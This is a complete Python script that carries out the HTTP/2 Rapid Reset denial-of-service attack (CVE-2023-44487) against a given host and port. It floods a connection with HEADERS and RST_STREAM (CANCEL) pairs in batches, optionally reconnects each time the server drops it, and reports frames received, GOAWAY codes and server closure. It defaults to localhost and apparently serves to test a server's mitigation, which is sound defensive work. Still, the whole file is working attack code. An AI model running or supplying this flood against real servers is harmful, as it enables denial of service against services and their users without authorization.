#!/usr/bin/env python3
"""h2_rapid_reset.py — HTTP/2 Rapid Reset (CVE-2023-44487) against one listener: one connection
that sends N pairs of HEADERS (a GET of --path) and RST_STREAM (CANCEL) as fast as it can, in
batches of --batch pairs per write, reading and counting what the server sends between writes.
Prints one JSON line: pairs sent, connections used, seconds, pairs/s, frames received by type,
responses started (HEADERS frames back), the GOAWAY error code if the server sent one, and whether
the server closed the (last) connection. Standard library only, one thread.

Usage: h2_rapid_reset.py --port P [--host 127.0.0.1] [--tls] [--path /query/x] [--n 100000]
       [--batch 100] [--seconds S (stop after S s even if N is not reached)]
       [--reconnect (a new connection each time the server closes one, until N or S)]
Over --tls the server must select h2 by ALPN; without it, HTTP/2 with prior knowledge (h2c)."""
import argparse
import json
import select
import socket
import ssl
import struct
import sys
import time

FRAME_NAMES = {0: "DATA", 1: "HEADERS", 2: "PRIORITY", 3: "RST_STREAM", 4: "SETTINGS", 5: "PUSH_PROMISE",
               6: "PING", 7: "GOAWAY", 8: "WINDOW_UPDATE", 9: "CONTINUATION"}
END_STREAM, END_HEADERS, ACK = 0x1, 0x4, 0x1
CANCEL = 8


def frame(ftype, flags, stream_id, payload=b""):
    return struct.pack(">I", len(payload))[1:] + bytes([ftype, flags]) + struct.pack(">I", stream_id) + payload


def hpack_string(s):
    b = s.encode()
    assert len(b) < 127, "header value too long for this encoder"
    return bytes([len(b)]) + b


def request_block(path, authority, tls):
    """:method GET, :scheme, :path and :authority: static-table indexes and literals without
    indexing (no Huffman), so every block is the same bytes and no dynamic table is involved."""
    return (b"\x82" + (b"\x87" if tls else b"\x86")
            + b"\x04" + hpack_string(path)        # literal, name = static 4 (:path)
            + b"\x01" + hpack_string(authority))  # literal, name = static 1 (:authority)


class Reader:
    """Counts the server's frames. Fed from the sending loop (one thread: an SSL object must not be
    read and written from two threads at once)."""

    def __init__(self, sock):
        self.sock = sock
        self.counts = {}
        self.goaway = None
        self.closed = False
        self.http1_answer = None
        self.acks_due = 0  # SETTINGS from the server not yet acknowledged
        self.buf = b""

    def feed(self, data):
        if not data:
            self.closed = True
            return
        self.buf += data
        if self.buf.startswith(b"HTTP/1"):  # no HTTP/2 here: the preface got an HTTP/1 answer
            self.http1_answer = self.buf.split(b"\r\n", 1)[0].decode("latin-1")
            self.closed = True
            return
        while len(self.buf) >= 9:
            length = int.from_bytes(self.buf[:3], "big")
            if len(self.buf) < 9 + length:
                break
            ftype, flags, payload = self.buf[3], self.buf[4], self.buf[9:9 + length]
            name = FRAME_NAMES.get(ftype, str(ftype))
            self.counts[name] = self.counts.get(name, 0) + 1
            if ftype == 4 and not flags & ACK:
                self.acks_due += 1
            if ftype == 7 and len(payload) >= 8:
                self.goaway = struct.unpack(">I", payload[4:8])[0]
            self.buf = self.buf[9 + length:]

    def drain(self):
        """Reads what is there without waiting."""
        while not self.closed:
            try:
                data = self.sock.recv(1 << 16)
            except (BlockingIOError, ssl.SSLWantReadError, ssl.SSLWantWriteError):
                return
            except OSError:
                self.closed = True
                return
            self.feed(data)


def send_all(sock, reader, data):
    """Writes data, reading whatever the server sends meanwhile (it stops reading a client that
    does not read its answers)."""
    view = memoryview(data)
    while view and not reader.closed:
        try:
            n = sock.send(view)
            view = view[n:]
        except (BlockingIOError, ssl.SSLWantWriteError, ssl.SSLWantReadError):
            select.select([sock], [sock], [], 0.1)
        reader.drain()


def open_connection(a):
    """A connection that speaks HTTP/2 (preface and SETTINGS sent), or an error text."""
    raw = socket.create_connection((a.host, a.port), timeout=10)
    raw.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)
    sock = raw
    if a.tls:
        ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        ctx.set_alpn_protocols(["h2"])
        sock = ctx.wrap_socket(raw, server_hostname=a.host)
        if sock.selected_alpn_protocol() != "h2":
            sock.close()
            return None, None, "the server did not select h2 by ALPN (it offered %s)" % sock.selected_alpn_protocol()
    sock.setblocking(False)
    reader = Reader(sock)
    send_all(sock, reader, b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n" + frame(4, 0, 0))
    return sock, reader, None


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--host", default="127.0.0.1")
    ap.add_argument("--port", type=int, required=True)
    ap.add_argument("--tls", action="store_true")
    ap.add_argument("--path", default="/health/live")
    ap.add_argument("--n", type=int, default=100000)
    ap.add_argument("--batch", type=int, default=100)
    ap.add_argument("--seconds", type=float, default=0)
    ap.add_argument("--reconnect", action="store_true", help="open a new connection when the server closes one")
    a = ap.parse_args()

    authority = "%s:%d" % (a.host, a.port)
    block = request_block(a.path, authority, a.tls)
    counts, goaway, http1_answer, error = {}, None, None, None
    sent, connections, closed = 0, 0, False
    t0 = time.monotonic()

    def out_of_time():
        return sent >= a.n or (a.seconds and time.monotonic() - t0 > a.seconds)

    while not out_of_time():
        sock, reader, err = open_connection(a)
        if err:
            print(json.dumps({"error": err}))
            return 2
        connections += 1
        sid = 1
        try:
            while not out_of_time() and not reader.closed:
                parts = [frame(4, ACK, 0)] * reader.acks_due
                reader.acks_due = 0
                for _ in range(min(a.batch, a.n - sent)):
                    parts.append(frame(1, END_STREAM | END_HEADERS, sid, block))
                    parts.append(frame(3, 0, sid, struct.pack(">I", CANCEL)))
                    sid += 2
                    sent += 1
                send_all(sock, reader, b"".join(parts))
        except OSError as e:
            error = str(e)
        if out_of_time():
            end = time.monotonic() + 0.5  # what the server still sends about the last pairs
            while time.monotonic() < end and not reader.closed:
                select.select([sock], [], [], 0.05)
                reader.drain()
        for k, v in reader.counts.items():
            counts[k] = counts.get(k, 0) + v
        goaway = reader.goaway if reader.goaway is not None else goaway
        http1_answer = reader.http1_answer or http1_answer
        closed = reader.closed
        try:
            sock.close()
        except OSError:
            pass
        if not a.reconnect:
            break
    elapsed = time.monotonic() - t0
    out = {"pairs_sent": sent, "connections": connections, "seconds": round(elapsed, 3),
           "pairs_per_second": round(sent / elapsed) if elapsed > 0 else None,
           "frames_received": counts, "responses_started": counts.get("HEADERS", 0),
           "goaway_error": goaway, "closed_by_server": closed, "send_error": error}
    if http1_answer:
        out["http1_answer"] = http1_answer
    print(json.dumps(out))
    return 0


if __name__ == "__main__":
    sys.exit(main())
